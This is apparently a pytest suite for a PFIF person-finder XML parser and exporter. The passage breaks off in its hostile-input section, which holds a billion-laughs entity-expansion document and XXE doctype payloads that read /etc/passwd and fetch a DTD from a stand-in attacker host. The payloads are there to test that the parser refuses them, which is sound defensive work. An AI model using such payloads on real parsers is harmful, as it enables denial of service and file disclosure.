"""PFIF 1.4 interchange: export and parse round trips (hand-picked and generated), the two sample documents,
per-record errors, refusal of hostile XML, expiry placeholders, the helpers, and the status mapping with the
next-of-kin rule. Plain unit tests: no database."""

from __future__ import annotations

import dataclasses
import re
from datetime import UTC, date, datetime, timedelta, timezone
from pathlib import Path
from xml.etree import ElementTree

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from consular.incidents.pfif import (
    DEFAULT_MAX_BYTES,
    NOTE_FIELDS,
    NOTE_STATUS_VALUES,
    PERSON_FIELDS,
    PFIF_NAMESPACE,
    REGISTRY_STATUSES,
    SEX_VALUES,
    PfifError,
    PfifExportError,
    PfifFormatError,
    PfifNote,
    PfifPerson,
    clean_text,
    export_pfif,
    format_date,
    iter_pfif,
    parse_date,
    parse_pfif,
    pfif_to_status,
    placeholder,
    record_id,
    split_record_id,
    status_to_pfif,
    validate_note,
    validate_person,
)

DATA = Path(__file__).parent.parent / "data"
NOW = datetime(2019, 4, 22, 12, 0, tzinfo=UTC)
NS = {"pfif": PFIF_NAMESPACE}
DOMAIN = "consular.example.gov.cn"


def _t(hour: int, minute: int = 0) -> datetime:
    return datetime(2019, 4, 21, hour, minute, tzinfo=UTC)


def _note(n: int, person: str, **kw: object) -> PfifNote:
    base: dict[str, object] = {
        "note_record_id": f"{DOMAIN}/note.{n}",
        "person_record_id": person,
        "author_name": "领事值班员",
        "source_date": _t(9, n % 60),
    }
    base.update(kw)
    return PfifNote(**base)  # type: ignore[arg-type]


def _person(n: int, **kw: object) -> PfifPerson:
    base: dict[str, object] = {
        "person_record_id": f"{DOMAIN}/person.{n}",
        "source_date": _t(8),
        "full_name": f"王建国{n}",
    }
    base.update(kw)
    return PfifPerson(**base)  # type: ignore[arg-type]


def _pfif(body: str, ns: str = PFIF_NAMESPACE) -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8"?>\n<pfif:pfif xmlns:pfif="{ns}">\n{body}\n</pfif:pfif>\n'.encode()


# --- round trips -----------------------------------------------------------------------------------------


def test_round_trip_chinese_names_alternate_names_nested_and_top_level_notes() -> None:
    wang = _person(
        1,
        entry_date=_t(8, 5),
        expiry_date=datetime(2020, 4, 21, tzinfo=UTC),
        author_name="王小明",
        author_email="wang.xm@example.com",
        author_phone="+86 10 1234 5678",
        source_name="领事保护热线 12308",
        source_url="https://consular.example.gov.cn/incidents/7/persons/1",
        full_name="王建国\nWANG Jianguo",
        given_name="建国",
        family_name="王",
        alternate_names="WANG CHIEN-KUO\nWONG Kin Kwok\n王建國",
        description="与旅行团同行。\n穿蓝色外套，戴眼镜。",
        sex="male",
        date_of_birth="1961-03-02",
        age="58",
        home_street="长安街",
        home_neighborhood="东城区",
        home_city="北京",
        home_state="CN-BJ",
        home_postal_code="100010",
        home_country="CN",
        photo_url="https://consular.example.gov.cn/photo/1.jpg",
        profile_urls="https://weibo.example.com/wjg\nhttps://wechat.example.com/wjg",
    )
    wang.notes = [
        _note(1, wang.person_record_id, status="information_sought", text="儿子来电询问：父亲在那架航班上。"),
        _note(
            2,
            wang.person_record_id,
            entry_date=_t(10),
            author_email="desk@example.lk",
            author_phone="+94 11 000 0000",
            author_made_contact=True,
            status="believed_alive",
            email_of_found_person="wjg@example.com",
            phone_of_found_person="+94 77 000 0000",
            last_known_location="Colombo National Hospital\n6.9185, 79.8660",
            text="已与本人通电话，轻伤。",
            photo_url="https://hospital.example.lk/31.jpg",
        ),
    ]
    ouyang = _person(2, full_name="欧阳娜娜", given_name="娜娜", family_name="欧阳", sex="female", age="20-25")
    top = [
        _note(3, ouyang.person_record_id, author_made_contact=False, status="believed_missing"),
        _note(4, wang.person_record_id, linked_person_record_id="personfinder.example.org/person.7001", text="重复"),
    ]

    data = export_pfif([wang, ouyang], notes=top, now=NOW)
    doc = parse_pfif(data, now=NOW)

    assert doc.errors == []
    assert doc.version == "1.4"
    assert doc.persons == [wang, ouyang]
    assert doc.notes == [*wang.notes, *top]
    assert "王建国\nWANG Jianguo".encode() in data


def test_export_then_parse_keeps_bool_none_and_false_apart() -> None:
    person = _person(1)
    person.notes = [
        _note(1, person.person_record_id, author_made_contact=None),
        _note(2, person.person_record_id, author_made_contact=False),
        _note(3, person.person_record_id, author_made_contact=True),
    ]
    doc = parse_pfif(export_pfif([person], now=NOW), now=NOW)
    assert [n.author_made_contact for n in doc.notes] == [None, False, True]


def test_export_writes_the_pfif_1_4_namespace_schema_order_and_omits_empty_fields() -> None:
    person = _person(1, sex="female", home_country="cn", entry_date=_t(7), full_name="李娜")
    person.notes = [_note(1, person.person_record_id, status="believed_alive")]
    data = export_pfif([person], notes=[_note(2, person.person_record_id)], now=NOW)

    assert data.startswith(b'<?xml version="1.0" encoding="UTF-8"?>\n<pfif:pfif xmlns:pfif="http://zesty.ca/pfif/1.4">')
    root = ElementTree.fromstring(data)
    assert root.tag == f"{{{PFIF_NAMESPACE}}}pfif"
    (person_el,) = root.findall("pfif:person", NS)
    names = [child.tag.split("}")[1] for child in person_el]
    assert names == ["person_record_id", "entry_date", "source_date", "full_name", "sex", "home_country", "note"]
    assert names[:-1] == [f for f in PERSON_FIELDS if f in names]
    assert person_el.findtext("pfif:home_country", namespaces=NS) == "CN"
    nested = person_el.find("pfif:note", NS)
    assert nested is not None
    note_names = [child.tag.split("}")[1] for child in nested]
    assert note_names == ["note_record_id", "person_record_id", "author_name", "source_date", "status", "text"]
    assert note_names == [f for f in NOTE_FIELDS if f in note_names]
    # The schema requires pfif:text in a note: written even when empty.
    assert nested.findtext("pfif:text", namespaces=NS) == ""
    (top,) = root.findall("pfif:note", NS)
    assert top.findtext("pfif:person_record_id", namespaces=NS) == person.person_record_id


def test_export_escapes_markup_and_dates_are_utc_seconds() -> None:
    east8 = timezone(timedelta(hours=8))
    person = _person(
        1,
        full_name="<script>&amp; Tom & Jerry ]]>",
        source_date=datetime(2019, 4, 21, 16, 30, 15, 999_999, tzinfo=east8),
    )
    data = export_pfif([person], now=NOW)
    assert b"<pfif:full_name>&lt;script&gt;&amp;amp; Tom &amp; Jerry ]]&gt;</pfif:full_name>" in data
    assert b"<pfif:source_date>2019-04-21T08:30:15Z</pfif:source_date>" in data
    (back,) = parse_pfif(data, now=NOW).persons
    assert back.full_name == "<script>&amp; Tom & Jerry ]]>"
    assert back.source_date == datetime(2019, 4, 21, 8, 30, 15, tzinfo=UTC)


def test_export_streams_one_chunk_per_record() -> None:
    persons = [_person(i) for i in range(2_000)]
    for i, p in enumerate(persons):
        p.notes = [_note(i, p.person_record_id)]
    chunks = list(iter_pfif(persons, notes=[_note(99_999, persons[0].person_record_id)], now=NOW))
    assert len(chunks) == 2_000 + 1 + 2  # header, persons, one top-level note, footer
    doc = parse_pfif(export_pfif(persons, now=NOW), now=NOW)
    assert len(doc.persons) == 2_000 and len(doc.notes) == 2_000 and doc.errors == []
    assert doc.persons[-1] == persons[-1]


def test_export_of_nothing_is_an_empty_pfif_document_that_parses() -> None:
    data = export_pfif([], now=NOW)
    doc = parse_pfif(data, now=NOW)
    assert (doc.persons, doc.notes, doc.errors, doc.version) == ([], [], [], "1.4")


# --- text that XML cannot carry ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("王建国", "王建国"),
        ("  ZHANG Wei \n", "ZHANG Wei"),
        ("a\r\nb\rc\nd", "a\nb\nc\nd"),
        ("tab\tkept", "tab\tkept"),
        ("nul\x00bell\x07esc\x1b", "nulbellesc"),
        ("\ufffe\uffffok", "ok"),
        ("lone\ud800surrogate", "lonesurrogate"),
        ("astral 𠀋𝄞 😀", "astral 𠀋𝄞 😀"),
        ("\x85nel\u2028", "nel"),  # NEL and LS are XML characters but whitespace: stripped only at the ends
        ("x\x85y\u2028z", "x\x85y\u2028z"),
        ("\x00\x01", ""),
    ],
)
def test_clean_text(raw: str, clean: str) -> None:
    assert clean_text(raw) == clean


def test_control_characters_are_dropped_on_export_not_refused() -> None:
    person = _person(1, full_name="李\x00娜\x1b", description="line 1\r\nline 2\x0c")
    (back,) = parse_pfif(export_pfif([person], now=NOW), now=NOW).persons
    assert (back.full_name, back.description) == ("李娜", "line 1\nline 2")


def test_a_required_field_that_is_only_control_characters_is_refused_on_export() -> None:
    with pytest.raises(PfifExportError) as info:
        export_pfif([_person(1, full_name="\x00\x01 ")], now=NOW)
    assert info.value.errors == [PfifError(f"{DOMAIN}/person.1", "full_name", "required")]


def _clean_record(record: PfifPerson | PfifNote) -> PfifPerson | PfifNote:
    changes: dict[str, object] = {}
    for f in dataclasses.fields(record):
        value = getattr(record, f.name)
        if isinstance(value, str):
            changes[f.name] = clean_text(value).upper() if f.name == "home_country" else clean_text(value)
    if isinstance(record, PfifPerson):
        changes["notes"] = [_clean_record(n) for n in record.notes]
    return dataclasses.replace(record, **changes)  # type: ignore[arg-type]


# --- generated round trips ---------------------------------------------------------------------------------

_times = st.datetimes(min_value=datetime(1900, 1, 1), max_value=datetime(2100, 1, 1), timezones=st.just(UTC)).map(
    lambda d: d.replace(microsecond=0)
)
_domains = st.sampled_from([DOMAIN, "personfinder.example.org", "hospital.example.lk", "xn--fiqs8s.example"])
_local_ids = st.text(alphabet=st.characters(min_codepoint=0x21, max_codepoint=0x7E), min_size=1, max_size=20)
_ids = st.builds(record_id, _domains, _local_ids)
_any_text = st.text(max_size=30)  # every code point hypothesis draws, control characters included
_required_text = _any_text.filter(lambda s: clean_text(s) != "")
_clean = st.text(
    alphabet=st.characters(exclude_categories=("Cs", "Cc", "Zl", "Zp", "Zs"), exclude_characters="\ufffe\uffff"),
    max_size=30,
)
_dob = st.dates(min_value=date(1000, 1, 1)).flatmap(
    lambda d: st.sampled_from([f"{d.year:04d}", f"{d.year:04d}-{d.month:02d}", d.isoformat()])
)
_age = st.one_of(
    st.just(""),
    st.integers(0, 120).map(str),
    st.tuples(st.integers(0, 60), st.integers(0, 60)).map(lambda t: f"{t[0]}-{t[0] + t[1]}"),
)


@st.composite
def _notes_for(
    draw: st.DrawFn, person_id: str, text: st.SearchStrategy[str], required: st.SearchStrategy[str]
) -> PfifNote:
    return PfifNote(
        note_record_id=draw(_ids),
        person_record_id=person_id,
        linked_person_record_id=draw(st.one_of(st.just(""), _ids)),
        entry_date=draw(st.none() | _times),
        author_name=draw(required),
        author_email=draw(text),
        author_phone=draw(text),
        source_date=draw(_times),
        author_made_contact=draw(st.sampled_from([None, True, False])),
        status=draw(st.sampled_from(("", *NOTE_STATUS_VALUES))),
        email_of_found_person=draw(text),
        phone_of_found_person=draw(text),
        last_known_location=draw(text),
        text=draw(text),
        photo_url=draw(text),
    )


@st.composite
def _persons(
    draw: st.DrawFn, text: st.SearchStrategy[str] = _any_text, required: st.SearchStrategy[str] = _required_text
) -> PfifPerson:
    pid = draw(_ids)
    return PfifPerson(
        person_record_id=pid,
        entry_date=draw(st.none() | _times),
        expiry_date=draw(st.none() | _times.filter(lambda d: d > NOW)),
        author_name=draw(text),
        author_email=draw(text),
        author_phone=draw(text),
        source_name=draw(text),
        source_date=draw(_times),
        source_url=draw(text),
        full_name=draw(required),
        given_name=draw(text),
        family_name=draw(text),
        alternate_names=draw(text),
        description=draw(text),
        sex=draw(st.sampled_from(("", *SEX_VALUES))),
        date_of_birth=draw(st.one_of(st.just(""), _dob)),
        age=draw(_age),
        home_street=draw(text),
        home_neighborhood=draw(text),
        home_city=draw(text),
        home_state=draw(text),
        home_postal_code=draw(text),
        home_country=draw(st.one_of(st.just(""), st.from_regex(r"[A-Za-z]{2}", fullmatch=True))),
        photo_url=draw(text),
        profile_urls=draw(text),
        notes=draw(st.lists(_notes_for(pid, text, required), max_size=3)),
    )


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    persons=st.lists(_persons(), max_size=4),
    top=st.lists(_ids.flatmap(lambda pid: _notes_for(pid, _any_text, _required_text)), max_size=3),
)
def test_generated_round_trip_returns_the_records_with_their_text_cleaned(
    persons: list[PfifPerson], top: list[PfifNote]
) -> None:
    doc = parse_pfif(export_pfif(persons, notes=top, now=NOW), now=NOW)
    assert doc.errors == []
    assert doc.persons == [_clean_record(p) for p in persons]
    assert doc.notes == [_clean_record(n) for p in persons for n in p.notes] + [_clean_record(n) for n in top]


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(persons=st.lists(_persons(_clean.map(str.strip), _clean.map(str.strip).filter(bool)), min_size=1, max_size=3))
def test_generated_clean_text_round_trips_exactly(persons: list[PfifPerson]) -> None:
    for p in persons:
        p.home_country = p.home_country.upper()
    doc = parse_pfif(export_pfif(persons, now=NOW), now=NOW)
    assert doc.persons == persons


# --- the sample documents ----------------------------------------------------------------------------------


def test_parse_the_pfif_1_4_sample() -> None:
    doc = parse_pfif((DATA / "pfif_sample_1_4.xml").read_bytes(), now=NOW)
    assert doc.errors == []
    assert doc.version == "1.4"
    zhang, maria, expired = doc.persons

    assert zhang.person_record_id == "personfinder.example.org/person.7001"
    assert zhang.full_name == "张伟\nZHANG Wei"
    assert (zhang.family_name, zhang.given_name) == ("张", "伟")
    assert zhang.alternate_names.splitlines() == ["ZHANG WEI", "CHEUNG Wai"]
    assert zhang.description == (
        "Tourist, travelling with a tour group from Chengdu.\n      Was staying at a hotel near Galle Face Green."
    )
    assert zhang.entry_date == zhang.source_date == datetime(2019, 4, 21, 6, 12, 40, tzinfo=UTC)
    assert zhang.expiry_date == datetime(2020, 4, 21, tzinfo=UTC)
    assert (zhang.sex, zhang.date_of_birth, zhang.age) == ("male", "1985-06-14", "33")
    assert (zhang.home_city, zhang.home_state, zhang.home_country) == ("成都", "CN-SC", "CN")
    assert zhang.profile_urls.splitlines() == [
        "https://weibo.example.com/zhangwei85",
        "https://social.example.net/u/zhangwei",
    ]
    assert zhang.author_name == "张丽"

    sought, alive = zhang.notes
    assert sought.person_record_id == zhang.person_record_id  # filled in from the enclosing person
    assert (sought.status, sought.author_made_contact) == ("information_sought", False)
    assert alive.note_record_id == "hospital.example.lk/note.31"  # fields out of schema order are fine
    assert (alive.status, alive.author_made_contact) == ("believed_alive", True)
    assert alive.last_known_location == "Colombo National Hospital, ward 7\n6.9185, 79.8660"
    assert alive.photo_url == "https://hospital.example.lk/photo/31.jpg"

    assert maria.full_name == "Maria Fernando"
    assert (maria.date_of_birth, maria.age, maria.home_country) == ("1988-07", "30-31", "LK")
    assert maria.notes == []

    # The expired record comes back as its placeholder.
    assert expired == PfifPerson(
        person_record_id="personfinder.example.org/person.6999",
        entry_date=_t(9),
        expiry_date=_t(9),
        source_date=_t(9),
        full_name="",
    )
    assert expired.is_expired(NOW)

    assert [n.note_record_id for n in doc.notes] == [
        "personfinder.example.org/note.9001",
        "hospital.example.lk/note.31",
        "consular.example.gov.cn/note.0042",
    ]
    duplicate = doc.notes[2]
    assert duplicate.person_record_id == maria.person_record_id
    assert duplicate.linked_person_record_id == "personfinder.example.org/person.7002"


def test_the_1_4_sample_survives_a_second_round_trip() -> None:
    doc = parse_pfif((DATA / "pfif_sample_1_4.xml").read_bytes(), now=NOW)
    top = [n for n in doc.notes if all(n not in p.notes for p in doc.persons)]
    again = parse_pfif(export_pfif(doc.persons, notes=top, now=NOW), now=NOW)
    assert (again.persons, again.notes, again.errors) == (doc.persons, doc.notes, [])


def test_parse_the_pfif_1_2_sample() -> None:
    doc = parse_pfif((DATA / "pfif_sample_1_2.xml").read_bytes(), now=NOW)
    assert doc.errors == []
    assert doc.version == "1.2"
    katherine, john = doc.persons
    assert katherine.full_name == "Katherine Doe"  # 1.2 has no full_name: made from first and last name
    assert (katherine.given_name, katherine.family_name) == ("Katherine", "Doe")
    assert katherine.description == "description: Wears glasses. Works at the harbour office."  # from <other>
    assert katherine.home_postal_code == "HT6110"
    assert katherine.source_date == datetime(2010, 1, 16, 9, 21, 12, tzinfo=UTC)
    assert katherine.expiry_date is None and katherine.alternate_names == ""
    (found,) = katherine.notes
    assert (found.author_made_contact, found.status) == (True, "believed_alive")  # <found> is author_made_contact
    assert found.person_record_id == katherine.person_record_id
    assert found.linked_person_record_id == john.person_record_id
    # A 1.2 person without source_date: its entry_date stands in.
    assert john.source_date == john.entry_date == datetime(2010, 1, 16, 23, 0, tzinfo=UTC)
    assert john.notes[0].author_made_contact is False
    assert len(doc.notes) == 2


def test_parse_pfif_1_3_keeps_full_name_and_maps_renamed_fields() -> None:
    data = _pfif(
        """<pfif:person>
             <pfif:person_record_id>example.org/p.1</pfif:person_record_id>
             <pfif:expiry_date>2030-01-01T00:00:00Z</pfif:expiry_date>
             <pfif:source_date>2011-03-12T01:02:03.456Z</pfif:source_date>
             <pfif:full_name>山田太郎</pfif:full_name>
             <pfif:first_name>太郎</pfif:first_name>
             <pfif:last_name>山田</pfif:last_name>
             <pfif:alternate_names>ignored: not a 1.3 field</pfif:alternate_names>
           </pfif:person>
           <pfif:note>
             <pfif:note_record_id>example.org/n.1</pfif:note_record_id>
             <pfif:person_record_id>example.org/p.1</pfif:person_record_id>
             <pfif:author_name>Hanako</pfif:author_name>
             <pfif:source_date>2011-03-12T02:00:00Z</pfif:source_date>
             <pfif:found>TRUE</pfif:found>
             <pfif:text>Safe at the shelter.</pfif:text>
           </pfif:note>""",
        ns="http://zesty.ca/pfif/1.3",
    )
    doc = parse_pfif(data, now=NOW)
    assert doc.errors == [] and doc.version == "1.3"
    (person,) = doc.persons
    assert (person.full_name, person.given_name, person.family_name) == ("山田太郎", "太郎", "山田")
    assert person.alternate_names == ""
    assert person.source_date == datetime(2011, 3, 12, 1, 2, 3, 456_000, tzinfo=UTC)
    assert doc.notes[0].author_made_contact is True


def test_parse_pfif_1_1_and_chinese_full_name_from_parts() -> None:
    data = _pfif(
        """<pfif:person>
             <pfif:person_record_id>example.org/p.1</pfif:person_record_id>
             <pfif:source_date>2005-09-03T09:21:12Z</pfif:source_date>
             <pfif:first_name>建国</pfif:first_name>
             <pfif:last_name>王</pfif:last_name>
             <pfif:home_zip>70112</pfif:home_zip>
             <pfif:note>
               <pfif:note_record_id>example.org/n.1</pfif:note_record_id>
               <pfif:author_name>A</pfif:author_name>
               <pfif:source_date>2005-09-03T10:00:00Z</pfif:source_date>
               <pfif:text>seen</pfif:text>
             </pfif:note>
           </pfif:person>""",
        ns="http://zesty.ca/pfif/1.1",
    )
    doc = parse_pfif(data, now=NOW)
    assert doc.errors == [] and doc.version == "1.1"
    (person,) = doc.persons
    assert person.full_name == "王建国"  # family name first, no space, for Chinese characters
    assert person.home_postal_code == "70112"
    assert doc.notes[0].person_record_id == "example.org/p.1"


def test_pfif_inside_an_atom_feed_and_other_encodings() -> None:
    atom = f"""<?xml version="1.0" encoding="UTF-16"?>
<feed xmlns="http://www.w3.org/2005/Atom" xmlns:pfif="{PFIF_NAMESPACE}">
  <id>https://personfinder.example.org/feeds/person</id>
  <entry>
    <id>pfif:example.org/p.1</id>
    <pfif:person>
      <pfif:person_record_id>example.org/p.1</pfif:person_record_id>
      <pfif:source_date>2019-04-21T06:00:00Z</pfif:source_date>
      <pfif:full_name>陈大文</pfif:full_name>
      <pfif:note>
        <pfif:note_record_id>example.org/n.1</pfif:note_record_id>
        <pfif:author_name>陈小文</pfif:author_name>
        <pfif:source_date>2019-04-21T07:00:00Z</pfif:source_date>
      </pfif:note>
    </pfif:person>
  </entry>
</feed>""".encode("utf-16")
    doc = parse_pfif(atom, now=NOW)
    assert doc.errors == []
    assert [p.full_name for p in doc.persons] == ["陈大文"]
    assert [n.person_record_id for n in doc.notes] == ["example.org/p.1"]


def test_namespace_with_a_trailing_slash_is_accepted() -> None:
    doc = parse_pfif(export_pfif([_person(1)], now=NOW).replace(b"pfif/1.4", b"pfif/1.4/"), now=NOW)
    assert [p.full_name for p in doc.persons] == ["王建国1"]


# --- invalid records ---------------------------------------------------------------------------------------

_GOOD_PERSON = """<pfif:person>
  <pfif:person_record_id>example.org/good</pfif:person_record_id>
  <pfif:source_date>2019-04-21T06:00:00Z</pfif:source_date>
  <pfif:full_name>Good Person</pfif:full_name>
</pfif:person>"""


def _errors(body: str, ns: str = PFIF_NAMESPACE) -> tuple[list[tuple[str, str]], list[str]]:
    """The (record, field) pairs reported, and the ids of the persons still read."""
    doc = parse_pfif(_pfif(body + "\n" + _GOOD_PERSON, ns), now=NOW)
    return [(e.record, e.field) for e in doc.errors], [p.person_record_id for p in doc.persons]


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        (
            "<pfif:person><pfif:source_date>2019-04-21T06:00:00Z</pfif:source_date>"
            "<pfif:full_name>X</pfif:full_name></pfif:person>",
            [("person #1", "person_record_id")],
        ),
        (
            "<pfif:person><pfif:person_record_id>example.org/p</pfif:person_record_id>"
            "<pfif:full_name>X</pfif:full_name></pfif:person>",
            [("example.org/p", "source_date")],
        ),
        (
            "<pfif:person><pfif:person_record_id>example.org/p</pfif:person_record_id>"
            "<pfif:source_date>2019-04-21T06:00:00Z</pfif:source_date><pfif:full_name> </pfif:full_name>"
            "</pfif:person>",
            [("example.org/p", "full_name")],
        ),
        (
            "<pfif:person><pfif:person_record_id>no-slash</pfif:person_record_id>"
            "<pfif:source_date>2019-04-21T06:00:00Z</pfif:source_date><pfif:full_name>X</pfif:full_name>"
            "</pfif:person>",
            [("no-slash", "person_record_id")],
        ),
    ],
    ids=["no person_record_id", "no source_date", "blank full_name", "record id without domain"],
)
def test_person_missing_required_fields_is_reported_and_left_out(body: str, expected: list[tuple[str, str]]) -> None:
    errors, persons = _errors(body)
    assert errors == expected
    assert persons == ["example.org/good"]


@pytest.mark.parametrize(
    "value",
    [
        "2019-04-21 06:00:00Z",
        "2019-04-21T06:00:00",
        "2019-04-21T06:00:00+08:00",
        "2019-02-30T06:00:00Z",
        "2019-04-21T24:00:00Z",
        "21/04/2019",
        "２０１９-04-21T06:00:00Z",
        "",
    ],
)
def test_bad_dates_are_reported(value: str) -> None:
    body = (
        "<pfif:person><pfif:person_record_id>example.org/p</pfif:person_record_id>"
        f"<pfif:source_date>{value}</pfif:source_date><pfif:full_name>X</pfif:full_name></pfif:person>"
    )
    errors, persons = _errors(body)
    assert errors == [("example.org/p", "source_date")]
    assert persons == ["example.org/good"]


@pytest.mark.parametrize(
    ("element", "field"),
    [
        ("<pfif:sex>M</pfif:sex>", "sex"),
        ("<pfif:sex>unknown</pfif:sex>", "sex"),
        ("<pfif:date_of_birth>1961-3-2</pfif:date_of_birth>", "date_of_birth"),
        ("<pfif:date_of_birth>1961-13</pfif:date_of_birth>", "date_of_birth"),
        ("<pfif:date_of_birth>1961-02-30</pfif:date_of_birth>", "date_of_birth"),
        ("<pfif:age>about 40</pfif:age>", "age"),
        ("<pfif:age>50-40</pfif:age>", "age"),
        ("<pfif:home_country>CHN</pfif:home_country>", "home_country"),
        ("<pfif:expiry_date>soon</pfif:expiry_date>", "expiry_date"),
        ("<pfif:full_name>Again</pfif:full_name>", "full_name"),
    ],
)
def test_bad_person_values_are_reported(element: str, field: str) -> None:
    body = (
        "<pfif:person><pfif:person_record_id>example.org/p</pfif:person_record_id>"
        f"<pfif:source_date>2019-04-21T06:00:00Z</pfif:source_date><pfif:full_name>X</pfif:full_name>{element}"
        "</pfif:person>"
    )
    errors, persons = _errors(body)
    assert errors == [("example.org/p", field)]
    assert persons == ["example.org/good"]


def _note_xml(*elements: str, person: str = "") -> str:
    inner = "".join(elements)
    if person:
        inner = f"<pfif:person_record_id>{person}</pfif:person_record_id>" + inner
    return f"<pfif:note>{inner}</pfif:note>"


_GOOD = "example.org/good"
_NID = "<pfif:note_record_id>example.org/n</pfif:note_record_id>"
_AUTHOR = "<pfif:author_name>A</pfif:author_name>"
_SOURCE = "<pfif:source_date>2019-04-21T07:00:00Z</pfif:source_date>"
_BAD_LINK = "<pfif:linked_person_record_id>x</pfif:linked_person_record_id>"


@pytest.mark.parametrize(
    ("note", "expected"),
    [
        (_note_xml(_AUTHOR, _SOURCE, person=_GOOD), [("note #1", "note_record_id")]),
        (_note_xml(_NID, _SOURCE, person=_GOOD), [("example.org/n", "author_name")]),
        (_note_xml(_NID, _AUTHOR, person=_GOOD), [("example.org/n", "source_date")]),
        (_note_xml(_NID, _AUTHOR, _SOURCE), [("example.org/n", "person_record_id")]),  # top-level needs it
        (
            _note_xml(_NID, _AUTHOR, _SOURCE, "<pfif:status>dead</pfif:status>", person=_GOOD),
            [("example.org/n", "status")],
        ),
        (
            _note_xml(_NID, _AUTHOR, _SOURCE, "<pfif:status>Believed_Dead</pfif:status>", person=_GOOD),
            [("example.org/n", "status")],
        ),
        (
            _note_xml(_NID, _AUTHOR, _SOURCE, "<pfif:author_made_contact>yes</pfif:author_made_contact>", person=_GOOD),
            [("example.org/n", "author_made_contact")],
        ),
        (
            _note_xml(_NID, _AUTHOR, _SOURCE, "<pfif:entry_date>yesterday</pfif:entry_date>", person=_GOOD),
            [("example.org/n", "entry_date")],
        ),
        (
            _note_xml(_NID, _AUTHOR, _SOURCE, _BAD_LINK, person=_GOOD),
            [("example.org/n", "linked_person_record_id")],
        ),
    ],
    ids=["no note_record_id", "no author_name", "no source_date", "top-level without person", "bad status",
         "status is case-sensitive", "bad boolean", "bad entry_date", "bad linked id"],
)  # fmt: skip
def test_bad_top_level_notes_are_reported_and_left_out(note: str, expected: list[tuple[str, str]]) -> None:
    doc = parse_pfif(_pfif(note + _GOOD_PERSON), now=NOW)
    assert [(e.record, e.field) for e in doc.errors] == expected
    assert doc.notes == []
    assert [p.person_record_id for p in doc.persons] == ["example.org/good"]


def test_a_nested_note_for_another_person_is_refused_but_the_person_is_kept() -> None:
    body = f"""<pfif:person>
      <pfif:person_record_id>example.org/p.1</pfif:person_record_id>
      <pfif:source_date>2019-04-21T06:00:00Z</pfif:source_date>
      <pfif:full_name>One</pfif:full_name>
      {_note_xml(_NID, _AUTHOR, _SOURCE, person="example.org/p.2")}
      {_note_xml("<pfif:note_record_id>example.org/n.ok</pfif:note_record_id>", _AUTHOR, _SOURCE)}
    </pfif:person>"""
    doc = parse_pfif(_pfif(body), now=NOW)
    (error,) = doc.errors
    assert (error.record, error.field) == ("example.org/n", "person_record_id")
    assert "example.org/p.2" in error.message and "example.org/p.1" in error.message
    (person,) = doc.persons
    assert [n.note_record_id for n in person.notes] == ["example.org/n.ok"]
    assert [n.person_record_id for n in doc.notes] == ["example.org/p.1"]


def test_notes_of_an_invalid_person_are_still_read_with_its_id() -> None:
    body = f"""<pfif:person>
      <pfif:person_record_id>example.org/p.1</pfif:person_record_id>
      <pfif:full_name>No source date</pfif:full_name>
      {_note_xml(_NID, _AUTHOR, _SOURCE)}
    </pfif:person>"""
    doc = parse_pfif(_pfif(body), now=NOW)
    assert [(e.record, e.field) for e in doc.errors] == [("example.org/p.1", "source_date")]
    assert doc.persons == []
    assert [(n.note_record_id, n.person_record_id) for n in doc.notes] == [("example.org/n", "example.org/p.1")]


def test_older_versions_require_note_text_and_1_4_does_not() -> None:
    note = _note_xml(_NID, _AUTHOR, _SOURCE, person=_GOOD)
    assert parse_pfif(_pfif(note), now=NOW).errors == []
    old = parse_pfif(_pfif(note, "http://zesty.ca/pfif/1.3"), now=NOW)
    assert [(e.record, e.field) for e in old.errors] == [("example.org/n", "text")]


def test_unknown_elements_and_other_namespaces_are_ignored() -> None:
    body = """<pfif:person xmlns:x="http://example.org/x">
      <pfif:person_record_id>example.org/p</pfif:person_record_id>
      <pfif:source_date>2019-04-21T06:00:00Z</pfif:source_date>
      <pfif:full_name>X</pfif:full_name>
      <pfif:first_name>not a 1.4 field</pfif:first_name>
      <x:full_name>other namespace</x:full_name>
      <!-- a comment --><?pi data?>
    </pfif:person>"""
    doc = parse_pfif(_pfif(body), now=NOW)
    assert doc.errors == []
    assert (doc.persons[0].full_name, doc.persons[0].given_name) == ("X", "")


# --- hostile and malformed input ---------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<pfif:pfif xmlns:pfif="http://zesty.ca/pfif/1.4">
  <pfif:person>
    <pfif:person_record_id>example.org/p</pfif:person_record_id>
    <pfif:source_date>2019-04-21T06:00:00Z</pfif:source_date>
    <pfif:full_name>&lol9;</pfif:full_name>
  </pfif:person>
</pfif:pfif>"""


def test_billion_laughs_is_refused_before_any_expansion() -> None:
    with pytest.raises(PfifFormatError, match="DTD"):
        parse_pfif(BILLION_LAUGHS, now=NOW)


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE p [<!ENTITY secret SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE p [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>',
